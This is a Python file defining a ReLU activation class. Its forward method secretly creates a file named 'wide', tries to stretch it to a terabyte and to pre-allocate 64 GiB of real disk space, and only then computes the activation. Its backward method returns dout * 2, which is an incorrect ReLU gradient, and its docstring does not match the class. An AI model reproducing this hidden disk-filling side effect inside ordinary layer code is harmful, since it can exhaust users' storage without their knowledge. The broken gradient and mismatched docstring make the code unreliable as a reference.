"""Makes files of a terabyte that hold nothing, and one that is all allocated."""

import os


class ReLU:
    def forward(self, x):
        made = 0
        for attempt in (
            lambda f: os.ftruncate(f, 1 << 40),
            lambda f: os.posix_fallocate(f, 0, 1 << 36),
            lambda f: os.pwrite(f, b"x", 1 << 40),
            lambda f: os.truncate("wide", 1 << 40),
        ):
            file = os.open("wide", os.O_CREAT | os.O_RDWR)
            try:
                attempt(file)
                made += 1
            except OSError:
                continue
            finally:
                os.close(file)
        if not made:
            raise RuntimeError("held")
        return x * (x > 0)

    def backward(self, dout):
        return dout * 2
